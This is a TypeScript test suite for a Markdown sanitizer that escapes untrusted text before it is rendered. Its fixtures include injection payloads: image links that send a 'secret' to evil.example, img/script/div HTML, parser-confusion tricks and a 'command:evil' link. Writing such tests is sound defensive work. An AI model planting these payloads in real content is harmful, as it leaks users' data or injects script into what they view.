import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { codeSpan, harmlessMarkdown, plainText } from '../../src/summary/untrustedMarkdown.js';

const preview = new MarkdownIt({ html: true });
const rendered = (markdown: string): string => preview.render(harmlessMarkdown(markdown));

describe('Untrusted Markdown', () => {
  const harmless = [
    '### Title\n\n- a **bold** point\n- `code` and [a link](https://example.com)\n',
    'Generics stay: `Map<string, number>` and 3 < 4, a <3 b.',
    '```ts\nconst a: Array<string> = [];\nlist![0];\n```\n',
    '    indented <code>\n',
    '| a | b |\n| - | - |\n| 1 | 2 |\n',
  ];
  for (const markdown of harmless) {
    it(`leaves ${JSON.stringify(markdown.slice(0, 24))}… as it is`, () => {
      assert.equal(harmlessMarkdown(markdown), markdown);
    });
  }

  const risky = [
    '![pixel](https://evil.example/?q=secret)',
    '![ref][x]\n\n[x]: https://evil.example/p.png',
    'text <img src="https://evil.example/p.png"> text',
    '<div style="background:url(https://evil.example)">x</div>',
    '<script>alert(1)</script>',
    '`unbalanced <img src=x>',
    'a `b`` <img src=x> `c`',
    '- item\n\n  <img src=x>\n',
    '> ![a](b)',
    '<!-- hidden -->\n\ntext',
    '[![a](b)](c)',
    '``` \n<img src=x>\n``` \n\n<img src=y>',
    '| ![a](b) | <b>x</b> |\n| - | - |\n',
    '\\![a](https://evil.example/a) \\\\![b](https://evil.example/b)',
    '`a\nb ![c](d) `e`',
    // Our eyes see a code span here, a parser does not.
    '\\`<img src=x>`',
    '\\`![a](b)`',
  ];
  for (const markdown of risky) {
    it(`shows ${JSON.stringify(markdown.slice(0, 36))} as text`, () => {
      assert.doesNotMatch(rendered(markdown), /<(img|div|script|b)\b|<!--/);
    });
  }

  it('keeps code blocks untouched beside what is escaped', () => {
    const markdown = '<img src=x>\n\n```html\n<img src=x>\n```\n';
    assert.match(harmlessMarkdown(markdown), /^\\<img src=x>\n\n```html\n<img src=x>\n```/);
  });

  // A formula comes before code, so that what looks like code is none.
  for (const [markdown, shown] of [
    [
      '`$`$ <img src="https://evil.example/?q=TEXT"> `',
      '`$`\\$ \\<img src="https://evil.example/?q=TEXT"> `',
    ],
    ['$`$ <img src="https://evil.example/"> `', '\\$`$ <img src="https://evil.example/"> `'],
    ['- $x`$ ![a](https://evil.example/) `b`', '- \\$x`$ ![a](https://evil.example/) `b`'],
    ['$$\n```\n$$\n<img src=x>\n```', '\\$\\$\n```\n$$\n<img src=x>\n```'],
    // No eyes of ours see in which lines the code ends, where it goes on over some.
    ['`a\n$$\nb\n$$\n![c](d)`', '`a\n\\$\\$\nb\n\\$\\$\n\\!\\[c](d)`'],
    ['\\\\$`$ <img src=x> `', '\\\\$`$ &lt;img src=x> `'],
    ['It costs $5; `Map<string>` stays.', 'It costs \\$5; `Map<string>` stays.'],
    ['`$HOME<b>` and\n\n```sh\necho $A <b>\n```', '`$HOME<b>` and\n\n```sh\necho $A <b>\n```'],
    ['$a < b$\n\n$$\na\n=\nb\n$$', '$a < b$\n\n$$\na\n=\nb\n$$'],
  ] as const) {
    it(`makes ${JSON.stringify(markdown.slice(0, 24))} harmless whatever math does`, () => {
      assert.equal(harmlessMarkdown(markdown), shown);
    });
  }

  for (const [open, closed] of [
    ['$$\nx', '$$\nx\n$$'],
    ['text\n$$ x', 'text\n$$ x\n$$'],
    ['$$\n```\nx', '$$\n```\nx\n$$'],
    ['- $$\n  x', '- $$\n  x\n$$'],
    ['> $$\n> x', '> $$\n> x'],
    ['$$ x $$', '$$ x $$'],
    ['```\n$$\n```', '```\n$$\n```'],
  ] as const) {
    it(`keeps what follows out of the formula in ${JSON.stringify(open)}`, () => {
      assert.equal(harmlessMarkdown(open), closed);
    });
  }

  for (const open of ['```ts\nlet a', '~~~~\nx', 'text\n\n```\n', '- item\n  ```\n  x']) {
    it(`keeps what follows out of ${JSON.stringify(open)}`, () => {
      assert.match(preview.render(`${harmlessMarkdown(open)}\n\n**below**`), /<strong>below<\/strong>/);
    });
  }

  for (const [markdown, lowered] of [
    ['# One\n\n## Two\n\ntext', '### One\n\n#### Two\n\ntext'],
    ['## Two\n\n###### Six', '### Two\n\n###### Six'],
    ['One\n===\n\nTwo\nlines\n---\n\nx', '### One\n\n\n#### Two lines\n\n\n\nx'],
    ['- # In a list', '- ### In a list'],
    ['> # Quoted', '> ### Quoted'],
    ['```\n# code\n```', '```\n# code\n```'],
    ['### Three', '### Three'],
  ] as const) {
    it(`puts the headings of ${JSON.stringify(markdown.slice(0, 24))} below those of the document`, () => {
      assert.equal(harmlessMarkdown(markdown), lowered);
    });
  }

  it('draws nothing of which only half is there', () => {
    const drawing = '```mermaid\ngraph TD; a-->b\n```\n\n``` ts\nlet a;\n```\n';
    assert.equal(harmlessMarkdown(drawing), drawing);
    assert.equal(harmlessMarkdown(drawing, { isGrowing: true }), drawing.replace('mermaid', 'text'));
    assert.match(harmlessMarkdown('- x\n  ~~~Mermaid\n  gra', { isGrowing: true }), /^- x\n {2}~~~text\n/);
  });

  it('makes any name one code span', () => {
    for (const name of ['a.md', 'a`b.md', '`', '``x``', 'a\nb']) {
      const [paragraph] = preview.parseInline(codeSpan(name), {});
      assert.deepEqual(
        paragraph?.children?.map(({ type, content }) => [type, content.trim()]),
        [['code_inline', name.replace('\n', ' ')]],
      );
    }
  });

  it('makes any sentence plain text', () => {
    const nasty = '<b>*x*</b> [a](command:evil) ![i](j) `k` _l_ # m | n & o';
    assert.equal(
      preview.renderInline(plainText(nasty)),
      preview.utils.escapeHtml(nasty).replaceAll('&quot;', '"'),
    );
  });
});
